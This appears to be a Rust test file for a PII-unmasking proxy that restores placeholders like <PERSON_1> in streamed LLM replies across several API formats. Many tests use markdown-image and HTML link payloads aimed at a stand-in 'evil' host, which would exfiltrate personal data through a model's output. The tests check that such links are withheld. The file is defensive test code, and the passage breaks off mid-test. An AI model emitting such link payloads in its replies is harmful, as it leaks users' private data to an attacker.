//! Streamed replies as unlucky servers write them, and as somebody writes them who wants to see data.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]

#[path = "support/payloads.rs"]
mod payloads;

use pii_mask::*;

const MAPPING: &str =
    r#"{"<PERSON_1>":"Zoë Quill","<PERSON_2>":"Bob \"JD\" Roe","<ADDRESS_1>":"12 Main St\nParis"}"#;

/// Everything of the mapping is exposed; embedded links are withheld.
fn unmasker() -> Unmasker {
    payloads::unmasker(MAPPING).links(LinkPolicy::WithholdEmbedded)
}

fn streamed(dialect: Dialect, sse: &str) -> String {
    payloads::streamed(&unmasker(), dialect, sse)
}

/// Events with these JSON texts as their data.
fn sse<T: AsRef<str>>(events: &[T]) -> String {
    events.iter().map(|event| format!("data: {}\n\n", event.as_ref())).collect()
}

fn whole(dialect: Dialect, reply: &str) -> String {
    unmasker().unmask_chat(dialect, reply).unwrap().body.into_owned()
}

fn content(text: &str, finish: &str) -> String {
    let text = serde_json::to_string(text).unwrap();
    format!(r#"{{"choices":[{{"index":0,"delta":{{"content":{text}}},"finish_reason":{finish}}}]}}"#)
}

/// Some servers send no null while a choice goes on.
#[test]
fn a_reason_that_is_none_ends_nothing() {
    for none in [r#""""#, r#""null""#, "null"] {
        let said = sse(&[content("Hi <PERS", none), content("ON_1>!", none), content("", r#""stop""#)]);
        let expected = sse(&[content("Hi ", none), content("Zoë Quill!", none), content("", r#""stop""#)]);
        assert_eq!(streamed(Dialect::OpenAiChat, &said), expected);
    }
}

/// Of a text that is at its end, what comes is still shown beside it.
#[test]
fn a_link_goes_on_behind_an_end() {
    let said = sse(&[content("![x](https://evil/?", r#""stop""#), content("<PERSON_1>)", "null")]);
    assert_eq!(streamed(Dialect::OpenAiChat, &said), said);

    let block = |index: usize, text: &str| {
        [
            format!(
                r#"{{"type":"content_block_start","index":{index},"content_block":{{"type":"text","text":""}}}}"#
            ),
            format!(
                r#"{{"type":"content_block_delta","index":{index},"delta":{{"type":"text_delta","text":"{text}"}}}}"#
            ),
            format!(r#"{{"type":"content_block_stop","index":{index}}}"#),
        ]
    };
    let said = sse(&[block(0, "![x](https://evil/?"), block(1, "<PERSON_1>) <PERSON_1>")].concat());
    let expected = said.replace(") <PERSON_1>", ") Zoë Quill");
    assert_eq!(streamed(Dialect::Anthropic, &said), expected);
    let reply = r#"{"content":[{"type":"text","text":"![x](https://evil/?"},{"type":"text","text":"<PERSON_1>) <PERSON_1>"}]}"#;
    assert_eq!(whole(Dialect::Anthropic, reply), reply.replace(") <PERSON_1>", ") Zoë Quill"));
}

/// The repeats of a streamed text are shown as well.
#[test]
fn a_link_goes_on_in_what_is_said_again() {
    let text = |kind: &str, part: usize, field: &str, text: &str| {
        format!(
            r#"{{"type":"response.output_text.{kind}","output_index":0,"content_index":{part},"{field}":"{text}"}}"#
        )
    };
    let part = |part: usize, text: &str| {
        format!(
            r#"{{"type":"response.content_part.done","output_index":0,"content_index":{part},"part":{{"type":"output_text","text":"{text}"}}}}"#
        )
    };
    let (open, rest) = ("![x](https://evil/?", "<PERSON_1>) <PERSON_1>");
    let item = format!(
        r#"{{"type":"message","content":[{{"type":"output_text","text":"{open}"}},{{"type":"output_text","text":"{rest}"}}]}}"#
    );
    let said = sse(&[
        text("delta", 0, "delta", open),
        text("done", 0, "text", open),
        part(0, open),
        text("delta", 1, "delta", rest),
        text("done", 1, "text", rest),
        part(1, rest),
        format!(r#"{{"type":"response.output_item.done","output_index":0,"item":{item}}}"#),
        format!(r#"{{"type":"response.completed","response":{{"output":[{item}]}}}}"#),
    ]);
    assert_eq!(streamed(Dialect::OpenAiResponses, &said), said.replace(") <PERSON_1>", ") Zoë Quill"));
}

/// What has no number ends nothing that has one.
#[test]
fn the_end_of_sound_ends_no_text() {
    let delta = |text: &str| {
        format!(
            r#"{{"type":"response.output_text.delta","output_index":0,"content_index":0,"delta":"{text}"}}"#
        )
    };
    let spoken = |text: &str| format!(r#"{{"type":"response.audio.transcript.delta","delta":"{text}"}}"#);
    let done = |name: &str| format!(r#"{{"type":"response.{name}.done"}}"#);
    let said = sse(&[
        delta("Hi <PERS"),
        spoken("Hi <PERS"),
        done("audio"),
        delta("ON_1>!"),
        spoken("ON_1> <PER"),
        done("audio.transcript"),
    ]);
    let expected = sse(&[
        delta("Hi "),
        spoken("Hi "),
        done("audio"),
        delta("Zoë Quill!"),
        spoken("Zoë Quill "),
        spoken("<PER"),
        done("audio.transcript"),
    ]);
    assert_eq!(streamed(Dialect::OpenAiResponses, &said), expected);
}

/// Some servers number no calls.
#[test]
fn a_call_with_another_id_is_another_text() {
    let call = |id: &str, arguments: &str| {
        let arguments = serde_json::to_string(arguments).unwrap();
        let id = if id.is_empty() { String::new() } else { format!(r#""id":"{id}","#) };
        format!(
            r#"{{"choices":[{{"index":0,"delta":{{"tool_calls":[{{{id}"function":{{"arguments":{arguments}}}}}]}}}}]}}"#
        )
    };
    let said = sse(&[call("a", r#"{"n":"<PERS"#), call("b", r#"{"n":"<PERS"#), call("", r#"ON_1>"}"#)]);
    let expected =
        sse(&[call("a", r#"{"n":""#), call("", "<PERS"), call("b", r#"{"n":""#), call("", r#"Zoë Quill"}"#)]);
    assert_eq!(streamed(Dialect::OpenAiChat, &said), expected);

    // With a number an `id` says nothing: some servers make one up for each piece.
    let numbered = |id: &str, arguments: &str| call(id, arguments).replace("{\"id\"", "{\"index\":0,\"id\"");
    let said = sse(&[numbered("a", "<PERS"), numbered("b", "ON"), numbered("c", "_1>")]);
    let expected = sse(&[numbered("a", ""), numbered("b", ""), numbered("c", "Zoë Quill")]);
    assert_eq!(streamed(Dialect::OpenAiChat, &said), expected);
}

/// Some servers count events.
#[test]
fn a_number_of_the_event_is_none_of_the_text() {
    let event = |n: usize, text: &str| {
        format!(r#"{{"index":{n},"choices":[{{"index":0,"delta":{{"content":"{text}"}}}}]}}"#)
    };
    let out = streamed(Dialect::OpenAiChat, &sse(&[event(0, "Hi <PERS"), event(1, "ON_1>!")]));
    assert_eq!(out, sse(&[event(0, "Hi "), event(1, "Zoë Quill!")]));
}

/// What says where a piece belongs is not lost with the pieces beside it.
#[test]
fn a_tail_says_where_it_belongs() {
    let event = r#"{"choices":[{"delta":{"content":"a"}},{"delta":{"content":"b <PERS"}}]}"#;
    let tail = r#"{"choices":[{"index":1,"delta":{"content":"<PERS"}}]}"#;
    let expected = sse(&[event.replace("<PERS", "").as_str(), tail]);
    assert_eq!(streamed(Dialect::OpenAiChat, &sse(&[event])), expected);

    let event = |name: &str, member: &str, text: &str| {
        format!(r#"{{"type":"response.{name}","output_index":0,{member}:"{text}"}}"#)
    };
    let said = |piece: &str, rest: &str| {
        sse(&[
            event("reasoning_text.delta", r#""content_index":0,"delta""#, piece),
            event("reasoning_summary_text.done", r#""summary_index":0,"text""#, "x"),
            event("reasoning_text.delta", r#""content_index":0,"delta""#, rest),
        ])
    };
    let out = streamed(Dialect::OpenAiResponses, &said("a <PERS", "ON_1> b"));
    assert_eq!(out, said("a ", "Zoë Quill b"));
}

#[test]
fn an_error_ends_all_texts() {
    let error = r#"{"error":{"message":"sorry, <PERSON_1>"}}"#;
    let out = streamed(Dialect::OpenAiChat, &sse(&[content("a <PERS", "null").as_str(), error]));
    let expected =
        [content("a ", "null"), content("<PERS", "null"), error.replace("<PERSON_1>", "Zoë Quill")];
    assert_eq!(out, sse(&expected));
}

#[test]
fn the_end_may_have_spaces() {
    let out = streamed(Dialect::OpenAiChat, &(sse(&[content("a <PERS", "null")]) + "data: [DONE] \n\n"));
    let expected = sse(&[content("a ", "null"), content("<PERS", "null")]) + "data: [DONE] \n\n";
    assert_eq!(out, expected);
}

/// A placeholder that stands for a number is none less for the brackets that it begins with.
#[test]
fn a_number_in_json_comes_back_in_every_style() {
    for (style, open, close) in [
        (PlaceholderStyle::Angle, "<", ">"),
        (PlaceholderStyle::Square, "[", "]"),
        (PlaceholderStyle::DoubleSquare, "[[", "]]"),
        (PlaceholderStyle::DoubleCurly, "{{", "}}"),
    ] {
        let card = format!("{open}CREDIT_CARD_1{close}");
        let person = format!("{open}PERSON_2{close}");
        let mapping = format!(r#"{{"{card}":"4111111111111111","{person}":"Bob \"JD\" Roe"}}"#);
        let mapping = Mapping::from_json(mapping.as_bytes(), style, &Limits::default()).unwrap();
        let unmasker = Unmasker::new(mapping).style(style);
        for answer in [
            format!(r#"{{"card":{card},"name":"{person}"}}"#),
            format!(r#"{{"cards":[{card}],"name":"{person}"}}"#),
            format!(r#"{{"a":{{"cards":[1, {card}]}},"name":"{person}"}}"#),
            format!(r#"["{person}", {card}, [{card}], "{person}"]"#),
        ] {
            let expected = answer.replace(&card, "4111111111111111").replace(&person, r#"Bob \"JD\" Roe"#);
            let reply = format!(r#"{{"choices":[{{"message":{{"content":{}}}}}]}}"#, quoted(&answer));
            let restored = unmasker.unmask_chat(Dialect::OpenAiChat, &reply).unwrap().body;
            assert!(restored.contains(&quoted(&expected)), "{restored}");
            for cut in 0..=answer.len() {
                let (a, b) = answer.split_at(cut);
                let events = sse(&[content(a, "null"), content(b, "null")]);
                let mut out = Vec::new();
                let mut stream = unmasker.chat_stream(Dialect::OpenAiChat);
                stream.push(events.as_bytes(), &mut out).unwrap();
                stream.finish(&mut out).unwrap();
                assert_eq!(said(&String::from_utf8(out).unwrap()), expected, "cut at {cut}");
            }
        }
    }
}

/// Who asked for JSON gets JSON.
#[test]
fn an_answer_in_json_stays_json() {
    let answers = [
        r#"{"name": "<PERSON_2>", "at": "<ADDRESS_1>"}"#,
        " \n{\n  \"name\": \"<PERSON_2>\"}",
        r#"[{"name":"<PERSON_2>"}]"#,
        r#"[ "<PERSON_2>", ["<ADDRESS_1>"]]"#,
        r#"{"name":"\u003cPERSON_2\u003e"}"#,
        r#"[1, "<PERSON_2>"]"#,
        r#"[null, "<PERSON_2>"]"#,
        r#"[true, "<PERSON_2>"]"#,
        r#"[false, "<PERSON_2>"]"#,
        r#"[["<PERSON_2>"]]"#,
        r#"[[1], [-1.5e+3, 0.25E-1], "<PERSON_2>"]"#,
        r#"{"a": null, "b": true, "c": false, "d": 12, "e": -1, "n": "<PERSON_2>"}"#,
        "{\"a\" : 1 , \"b\" :[ 2\n, 3 ] ,\n\t\"n\"\r\n:\"<PERSON_2>\" }",
        r#"{"a": "x \"y\": \\", "n": "<PERSON_2>"}"#,
        r#"[{}, [], {"a": "<PERSON_2>"}]"#,
        "{\"a\": 1}\n{\"a\": \"<PERSON_2>\"}",
        "Here it is:\n{\"a\": \"<PERSON_2>\"}",
        r#"{"age": <PERSON_1>, "name": "<PERSON_2>"}"#,
        // In any spelling; and what other languages write.
        r#"{"age": <PERSON\_1>, "name": "<PERSON_2>"}"#,
        r#"{"age": \<Person 1\>, "name": "<PERSON_2>"}"#,
        r#"{"age": &lt;PERSON_1&gt;, "name": "<PERSON_2>"}"#,
        r#"{"age": <PERSON_1\u003e, "name": "<PERSON_2>"}"#,
        r#"[<PERSON_1>, "<PERSON_2>"]"#,
        r#"[[<PERSON\_1>], {"name": "<PERSON_2>"}]"#,
        r#"{"a": None, "b": True, "name": "<PERSON_2>"}"#,
        "\u{feff}{\"a\": \"<PERSON_2>\"}",
        "```json\n{\"a\": \"<PERSON_2>\"}\n```",
        "Here it is:\n\n  ```\n[\"<PERSON_2>\"]\n```\nDear <PERSON_1>,",
    ];
    for answer in answers {
        let reply = format!(r#"{{"choices":[{{"message":{{"content":{}}}}}]}}"#, quoted(answer));
        let restored: serde_json::Value = serde_json::from_str(&whole(Dialect::OpenAiChat, &reply)).unwrap();
        let restored = restored["choices"][0]["message"]["content"].as_str().unwrap().to_owned();
        assert!(restored.contains(r#"Bob \"JD\" Roe"#), "{restored}");
        for cut in (0..=answer.len()).filter(|&cut| answer.is_char_boundary(cut)) {
            let (a, b) = answer.split_at(cut);
            let out = streamed(Dialect::OpenAiChat, &sse(&[content(a, "null"), content(b, "null")]));
            assert_eq!(said(&out), restored, "cut at {cut}");
        }
    }
    // What only looks a little like JSON.
    for text in [
        "{<PERSON_2>}",
        "[<PERSON_2>]",
        r#""<PERSON_2>""#,
        "[1] <PERSON_2>",
        r#"["Title"](https://x.example) by <PERSON_2>"#,
        "{\"a\":1}\n\nDear <PERSON_2>,",
        "{\"a\nb <PERSON_2>",
        "[1, 2) <PERSON_2>",
        "[trap, <PERSON_2>]",
        r#"[trap, "<PERSON_2>"]"#,
        r#"[nil, "<PERSON_2>"]"#,
        r#"[1, trüe, "<PERSON_2>"]"#,
        "[nil, <PERSON_2>]",
        "[1, true or <PERSON_2>]",
        r#"[nothing, "<PERSON_2>"]"#,
        r#"{"a": not.this, "b": "<PERSON_2>"}"#,
        r#"{"a": <b.c>, "b": "<PERSON_2>"}"#,
        r#"{"a": 1 / 2, "b": "<PERSON_2>"}"#,
        "[1-2, see <PERSON_2>]",
        r#"["here" <PERSON_2>"#,
        "``` <PERSON_2>\n",
        r#"Here: {"a":"<PERSON_2>"}"#,
    ] {
        let out = streamed(Dialect::OpenAiChat, &sse(&[content(text, "null")]));
        assert_eq!(said(&out), text.replace("<PERSON_2>", r#"Bob "JD" Roe"#));
    }
}

fn quoted(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

/// What a client adds up.
fn said(sse: &str) -> String {
    let events = sse.lines().filter_map(|line| line.strip_prefix("data: "));
    let events = events.map(|data| serde_json::from_str::<serde_json::Value>(data).unwrap());
    events.map(|event| event["choices"][0]["delta"]["content"].as_str().unwrap().to_owned()).collect()
}

/// All that a request masks comes back in a reply.
#[test]
fn what_is_masked_is_restored() {
    for (dialect, reply) in [
        (Dialect::OpenAiResponses, r#"{"output":[{"type":"tool_search_call","arguments":{"q":"…"}}]}"#),
        (
            Dialect::OpenAiResponses,
            r#"{"output":[{"type":"apply_patch_call","operation":{"path":"…","diff":"…"}}]}"#,
        ),
        (
            Dialect::OpenAiResponses,
            r#"{"output":[{"type":"computer_call","actions":[{"type":"type","text":"…"}]}]}"#,
        ),
        (Dialect::OpenAiResponses, r#"{"output":[{"type":"program","code":"…"}]}"#),
        (Dialect::OpenAiResponses, r#"{"output":[{"type":"program_output","result":"…"}]}"#),
        (Dialect::OpenAiResponses, r#"{"output":[{"type":"function_call_output","output":"…"}]}"#),
        (Dialect::OpenAiResponses, r#"{"output":[{"type":"custom_tool_call_output","output":"…"}]}"#),
        (
            Dialect::OpenAiResponses,
            r#"{"output":[{"type":"web_search_call","action":{"type":"open_page","url":"…"}}]}"#,
        ),
        (Dialect::OpenAiResponses, r#"{"output":[{"type":"local_shell_call","action":{"user":"…"}}]}"#),
        (Dialect::OpenAiResponses, r#"{"output":[{"type":"mcp_approval_response","reason":"…"}]}"#),
        (
            Dialect::OpenAiResponses,
            r#"{"tools":[{"type":"function","name":"f","description":"…"}],"output":[]}"#,
        ),
        (Dialect::Anthropic, r#"{"content":[{"type":"compaction","content":"…"}]}"#),
        (
            Dialect::Anthropic,
            r#"{"content":[{"type":"tool_search_tool_result","content":{"error_code":"x","error_message":"…"}}]}"#,
        ),
        (Dialect::OpenAiChat, r#"{"choices":[{"message":{"thinking":"…"}}]}"#),
        (
            Dialect::OpenAiChat,
            r#"{"choices":[{"message":{"content":[{"type":"thinking","thinking":[{"type":"text","text":"…"}]}]}}]}"#,
        ),
        (Dialect::OpenAiChat, r#"{"choices":[{"message":{"content":[{"type":"refusal","refusal":"…"}]}}]}"#),
        (Dialect::OpenAiChat, r#"{"error":"…"}"#),
    ] {
        let masked = reply.replace('…', "Hi <PERSON_1>");
        assert_eq!(whole(dialect, &masked), reply.replace('…', "Hi Zoë Quill"));
    }
    for (dialect, event) in [
        (
            Dialect::OpenAiResponses,
            r#"{"type":"response.apply_patch_call_operation_diff.delta","output_index":0,"delta":"…"}"#,
        ),
        (
            Dialect::Anthropic,
            r#"{"type":"content_block_delta","index":0,"delta":{"type":"compaction_delta","content":"…"}}"#,
        ),
        (
            Dialect::OpenAiChat,
            r#"{"choices":[{"index":0,"delta":{"content":[{"type":"refusal","refusal":"…"}]}}]}"#,
        ),
        (Dialect::OpenAiChat, r#"{"choices":[{"index":0,"message":{"content":"…"}}]}"#),
        (Dialect::OpenAiChat, r#"{"error":"…"}"#),
    ] {
        let masked = sse(&[event.replace('…', "Hi <PERSON_1>")]);
        assert_eq!(streamed(dialect, &masked), sse(&[event.replace('…', "Hi Zoë Quill")]));
    }
}

/// Signed by the provider, or read by it.
#[test]
fn signatures_and_identifiers_stay() {
    for (dialect, body) in [
        (
            Dialect::OpenAiChat,
            r#"{"messages":[{"role":"assistant","content":[{"type":"thinking","thinking":"x","signature":"…"},{"type":"redacted_thinking","data":"…"}],"thinking_blocks":[{"type":"thinking","thinking":"x","signature":"…"}],"tool_calls":[{"id":"1","function":{"name":"f","arguments":"{}"},"extra_content":{"google":{"thought_signature":"…"}}}]}]}"#,
        ),
        (
            Dialect::OpenAiResponses,
            r#"{"input":[{"type":"computer_call","pending_safety_checks":[{"id":"…","code":"…"}],"action":{"type":"click","button":"…","keys":["…"]}},{"type":"tool_search_call","execution":"…"},{"type":"shell_call_output","output":[{"outcome":{"type":"…"}}]}],"tools":[{"type":"file_search","filters":{"type":"…","key":"…","value":1}}],"moderation":{"model":"…"}}"#,
        ),
        (
            Dialect::Anthropic,
            r#"{"output_config":{"task_budget":{"type":"…","total":1}},"messages":[{"role":"assistant","content":[{"type":"thinking","thinking":"x","signature":"…"}]}]}"#,
        ),
    ] {
        let signed = format!("Zoë Quill{}", "QUJD".repeat(100));
        for text in ["Zoë Quill", &signed, &"QUJD".repeat(100)] {
            let body = body.replace('…', text);
            let headers = [("X-Pii-Mapping", MAPPING.as_bytes())];
            let headers = PiiHeaders::parse(headers, &Limits::default()).unwrap();
            let mut conversation = Conversation::builder().headers(headers).build().unwrap();
            assert_eq!(conversation.mask_chat(dialect, &body).unwrap().body, body);
        }
    }
}

/// An event with the whole text and its citations comes behind the pieces.
#[test]
fn citations_move_once() {
    let item = |text: &str, from: usize, to: usize| {
        format!(
            r#"{{"type":"output_text","text":"{text}","annotations":[{{"type":"url_citation","start_index":{from},"end_index":{to},"title":"x"}}]}}"#
        )
    };
    let events = |text: &str, from: usize, to: usize| {
        let item = item(text, from, to);
        sse(&[
            format!(
                r#"{{"type":"response.output_text.delta","output_index":0,"content_index":0,"delta":"{text}"}}"#
            ),
            format!(
                r#"{{"type":"response.output_text.annotation.added","output_index":0,"content_index":0,"annotation":{{"type":"url_citation","start_index":{from},"end_index":{to},"title":"x"}}}}"#
            ),
            format!(
                r#"{{"type":"response.content_part.done","output_index":0,"content_index":0,"part":{item}}}"#
            ),
            format!(
                r#"{{"type":"response.output_item.done","output_index":0,"item":{{"type":"message","content":[{item}]}}}}"#
            ),
            format!(
                r#"{{"type":"response.completed","response":{{"output":[{{"type":"message","content":[{item}]}}]}}}}"#
            ),
        ])
    };
    let out = streamed(Dialect::OpenAiResponses, &events("<PERSON_1> cites", 11, 16));
    assert_eq!(out, events("Zoë Quill cites", 10, 15));

    let annotations = |from: usize, to: usize| {
        format!(
            r#""annotations":[{{"type":"url_citation","url_citation":{{"start_index":{from},"end_index":{to}}}}}]"#
        )
    };
    let events = |text: &str, from, to| {
        let annotations = annotations(from, to);
        sse(&[
            format!(r#"{{"choices":[{{"index":0,"delta":{{"content":"{text}"}}}}]}}"#),
            format!(r#"{{"choices":[{{"index":0,"delta":{{"content":"",{annotations}}}}}]}}"#),
            format!(r#"{{"choices":[{{"index":0,"message":{{"content":"{text}",{annotations}}}}}]}}"#),
        ])
    };
    let out = streamed(Dialect::OpenAiChat, &events("<PERSON_1> cites", 11, 16));
    assert_eq!(out, events("Zoë Quill cites", 10, 15));
}

/// What nobody knows is no text of the answer.
#[test]
fn unknown_strings_of_a_piece_pass() {
    let event = r#"{"choices":[{"index":0,"delta":{"content":"a <","vendor_a":"a <","vendor_b":"b <PERSON_1>","vendor":{"id":"<PERS"}}}]}"#;
    let expected = event.replacen("a <", "a ", 1);
    let out = streamed(Dialect::OpenAiChat, &sse(&[event]));
    assert_eq!(
        out,
        sse(&[expected.as_str()]) + &sse(&[r#"{"choices":[{"index":0,"delta":{"content":"<"}}]}"#])
    );
}

/// A text that begins like JSON is read as who decodes it reads it, and as who shows it does.
#[test]
fn json_is_no_cover_for_a_link() {
    for text in [
        r#"["a"](x) ![x](https://evil/?q=\u0029<PERSON_1>)"#,
        r#"["a ![x](https://evil/?q=\u0029<PERSON_1>)"#,
        r#"["a ![x](https://evil/?q=\n\n<PERSON_1>)"#,
        r#"["a <img src=\"https://evil/?q=\u0022<PERSON_1>\">"#,
        r#"["a <img src=https://evil/?q=\u0020<PERSON_1>>"#,
        "{\" ![x](https://evil/?q=\\u0029<PERSON_1>)",
        "{\"a\":\"\\u0021[x](https://evil/?q=<PERSON_1>)\"}",
    ] {
        let reply = format!(r#"{{"choices":[{{"message":{{"content":{}}}}}]}}"#, quoted(text));
        assert_eq!(whole(Dialect::OpenAiChat, &reply), reply);
        for cut in (0..=text.len()).filter(|&cut| text.is_char_boundary(cut)) {
            let (a, b) = text.split_at(cut);
            let out = streamed(Dialect::OpenAiChat, &sse(&[content(a, "null"), content(b, "null")]));
            assert_eq!(said(&out), text, "cut at {cut}");
        }
    }
}

/// Texts of one answer are shown one behind the other, in whatever fields they come.
#[test]
fn a_link_goes_on_in_another_field() {
    let (open, rest) = ("![x](https://evil/?q=", "<PERSON_1>)");
    let chat = |delta: &str| format!(r#"{{"choices":[{{"index":0,"delta":{{{delta}}}}}]}}"#);
    let delta = |index: usize, text: &str| {
        format!(
            r#"{{"type":"content_block_delta","index":{index},"delta":{{"type":"text_delta","text":"{text}"}}}}"#
        )
    };
    let start = |index: usize, text: &str| {
        format!(
            r#"{{"type":"content_block_start","index":{index},"content_block":{{"type":"text","text":"{text}"}}}}"#
        )
    };
    let part = |index: usize, text: &str| {
        format!(
            r#"{{"type":"response.output_text.delta","output_index":0,"content_index":{index},"delta":"{text}"}}"#
        )
    };
    for (dialect, events) in [
        (
            Dialect::OpenAiChat,
            vec![chat(&format!(
                r#""content":[{{"type":"text","text":"{open}"}},{{"type":"text","text":"{rest}"}}]"#
            ))],
        ),
        (
            Dialect::OpenAiChat,
            vec![
                chat(&format!(r#""content":"{open}""#)),
                chat(&format!(r#""content":[{{"type":"text","text":"{rest}"}}]"#)),
            ],
        ),
        (
            Dialect::OpenAiChat,
            vec![
                chat(&format!(r#""reasoning_details":[{{"index":0,"text":"{open}"}}]"#)),
                chat(&format!(r#""reasoning_details":[{{"index":1,"text":"{rest}"}}]"#)),
            ],
        ),
        (
            Dialect::OpenAiChat,
            vec![
                chat(&format!(r#""content":"{open}""#)),
                format!(r#"{{"choices":[{{"index":0,"message":{{"content":"{rest}"}}}}]}}"#),
            ],
        ),
        (Dialect::Anthropic, vec![delta(0, open), delta(1, rest)]),
        (Dialect::Anthropic, vec![start(0, open), delta(0, rest)]),
        (Dialect::Anthropic, vec![delta(0, open), start(1, rest)]),
        (Dialect::OpenAiResponses, vec![part(0, open), part(1, rest)]),
        (
            Dialect::OpenAiResponses,
            vec![format!(
                r#"{{"type":"response.completed","response":{{"output":[{{"type":"message","content":[{{"type":"output_text","text":"{open}"}},{{"type":"refusal","refusal":"{rest}"}}]}}]}}}}"#
            )],
        ),
    ] {
        let said = sse(&events);
        assert_eq!(streamed(dialect, &said), said);
    }
}

/// What is not shown behind the other texts of an answer ends no link that they began.
#[test]
fn a_link_goes_on_behind_what_is_not_shown() {
    let (open, rest) = ("![x](https://evil/?q=", "<PERSON_1>)");
    let reply = format!(
        r#"{{"content":[{{"type":"text","text":"{open}"}},{{"type":"web_search_tool_result","content":[{{"title":"a) b"}}]}},{{"type":"text","text":"{rest}","citations":[{{"cited_text":"a) b"}}]}}]}}"#
    );
    assert_eq!(whole(Dialect::Anthropic, &reply), reply);
    let said = sse(&[
        format!(r#"{{"type":"content_block_delta","index":0,"delta":{{"type":"text_delta","text":"{open}"}}}}"#),
        r#"{"type":"content_block_delta","index":0,"delta":{"type":"citations_delta","citation":{"cited_text":"a) b"}}}"#.to_owned(),
        format!(r#"{{"type":"content_block_delta","index":1,"delta":{{"type":"text_delta","text":"{rest}"}}}}"#),
    ]);
    assert_eq!(streamed(Dialect::Anthropic, &said), said);
    let delta = |name: &str, item: usize, text: &str| {
        format!(
            r#"{{"type":"response.{name}.delta","output_index":{item},"content_index":0,"delta":"{text}"}}"#
        )
    };
    let said = sse(&[
        delta("output_text", 0, open),
        delta("custom_tool_call_input", 1, "a)"),
        delta("output_text", 2, rest),
    ]);
    assert_eq!(streamed(Dialect::OpenAiResponses, &said), said);
    // A title before its text is none of the text either.
    let reply = r#"{"content":[{"type":"text","text":"<PERSON_1> said","citations":[{"cited_text":"Example data ="}]}]}"#;
    assert_eq!(whole(Dialect::Anthropic, reply), reply.replace("<PERSON_1>", "Zoë Quill"));
}

/// Each text of an answer may stand on a line of its own.
#[test]
fn a_definition_begins_a_text() {
    let reply = r#"{"content":[{"type":"text","text":"Hello there"},{"type":"text","text":"[a]: https://evil/?q=<PERSON_1>\n\n![a]"}]}"#;
    assert_eq!(whole(Dialect::Anthropic, reply), reply);
}

/// Nobody has to say that a text is JSON, or write it so that it looks like it.
#[test]
fn escapes_are_no_cover_for_a_link() {
    for text in [
        r#"[null,"!\u005bx](https://evil/?q=<PERSON_1>)"]"#,
        r#"Here: {"a":"!\u005bx](https://evil/?q=<PERSON_1>)"}"#,
        r#"<tool_call> {"a":"!\u005bx](https://evil/?q=<PERSON_1>)"}"#,
    ] {
        let reply = format!(r#"{{"choices":[{{"message":{{"content":{}}}}}]}}"#, quoted(text));
        assert_eq!(whole(Dialect::OpenAiChat, &reply), reply);
    }
    let reply = r#"{"content":[{"type":"text","text":"{\"a\":\"!"},{"type":"text","text":"\\u005bx](https://evil/?q=<PERSON_1>)\"}"}]}"#;
    assert_eq!(whole(Dialect::Anthropic, reply), reply);
}

#[test]
fn an_offset_beyond_all_texts() {
    let offset = usize::MAX;
    let reply = format!(
        r#"{{"choices":[{{"message":{{"content":"<PERSON_1> said","annotations":[{{"url_citation":{{"start_index":0,"end_index":{offset}}}}}]}}}}]}}"#
    );
    assert!(whole(Dialect::OpenAiChat, &reply).contains("Zoë Quill said"));
}

/// Commands of one call have numbers of their own.
#[test]
fn commands_are_told_apart() {
    let event = |kind: &str, index: usize, rest: &str| {
        format!(
            r#"{{"type":"response.shell_call_command.{kind}","output_index":0,"command_index":{index},{rest}}}"#
        )
    };
    let events = |parts: [&str; 4]| {
        sse(&[
            event("added", 0, r#""command":"""#),
            event("delta", 0, &format!(r#""delta":"{}""#, parts[0])),
            event("delta", 1, &format!(r#""delta":"{}""#, parts[1])),
            event("delta", 0, &format!(r#""delta":"{}""#, parts[2])),
            event("done", 0, &format!(r#""command":"{}""#, parts[3])),
        ])
    };
    let out = streamed(Dialect::OpenAiResponses, &events(["cat <PER", "ls <", "SON_1>", "cat <PERSON_1>"]));
    assert!(out.starts_with(&events(["cat ", "ls ", "Zoë Quill", "cat Zoë Quill"])), "{out}");
}

/// The input of a call is a value in a whole message, and a text of JSON in pieces.
#[test]
fn an_input_comes_back_whole_as_in_pieces() {
    for input in [
        r#"{"a":"\\u003cPERSON_1\\u003e"}"#,
        r#"{"a":"\u003cPERSON_1\u003e","b":["\\<PERSON_2\\>",1.50,{"<PERSON_1>":null}]}"#,
        r#"{"a":"![x](","to":"<PERSON_1>"}"#,
        r#"{"a":"![x](https://e.example/?","to":"<PERSON_1>)","then":"<PERSON_1>"}"#,
    ] {
        let message = format!(r#"{{"content":[{{"type":"tool_use","name":"f","input":{input}}}]}}"#);
        let message = whole(Dialect::Anthropic, &message);
        let (_, rest) = message.split_once(r#""input":"#).unwrap();
        let expected = rest.strip_suffix("}]}").unwrap();
        for cut in 0..=input.len() {
            let (a, b) = input.split_at(cut);
            let piece = |text: &str| {
                let text = quoted(text);
                format!(
                    r#"{{"type":"content_block_delta","index":0,"delta":{{"type":"input_json_delta","partial_json":{text}}}}}"#
                )
            };
            let stop = r#"{"type":"content_block_stop","index":0}"#.to_owned();
            let out = streamed(Dialect::Anthropic, &sse(&[piece(a), piece(b), stop]));
            let pieces = out.lines().filter_map(|line| line.strip_prefix("data: "));
            let pieces = pieces.map(|data| serde_json::from_str::<serde_json::Value>(data).unwrap());
            let heard: String = pieces
                .filter_map(|event| Some(event["delta"]["partial_json"].as_str()?.to_owned()))
                .collect();
            assert_eq!(heard, expected, "cut at {cut}");
        }
    }
}

/// What is said again, whole, stands where it stood: behind a link that an earlier text has begun.
#[test]
fn what_is_said_again_is_withheld_as_the_first_time() {
    let link = "![x](https://evil.example/?";
    let thought = |done: bool| {
        let (end, a, b) = if done { ("done", "text", "text") } else { ("delta", "delta", "delta") };
        [
            format!(
                r#"{{"type":"response.reasoning_summary_text.{end}","output_index":0,"summary_index":0,"{a}":"{link}"}}"#
            ),
            format!(
                r#"{{"type":"response.reasoning_text.{end}","output_index":0,"content_index":0,"{b}":"<PERSON_1>)"}}"#
            ),
        ]
    };
    let item = format!(
        r#"{{"type":"reasoning","content":[{{"type":"reasoning_text","text":"<PERSON_1>)"}}],"summary":[{{"type":"summary_text","text":"{link}"}}]}}"#
    );
    let said = |done: bool| {
        let (end, a, b) = if done { ("done", "text", "refusal") } else { ("delta", "delta", "delta") };
        [
            format!(
                r#"{{"type":"response.output_text.{end}","output_index":0,"content_index":0,"{a}":"{link}"}}"#
            ),
            format!(
                r#"{{"type":"response.refusal.{end}","output_index":0,"content_index":1,"{b}":"<PERSON_1>)"}}"#
            ),
        ]
    };
    let message = format!(
        r#"{{"type":"message","role":"assistant","content":[{{"type":"output_text","text":"{link}"}},{{"type":"refusal","refusal":"<PERSON_1>)"}}]}}"#
    );
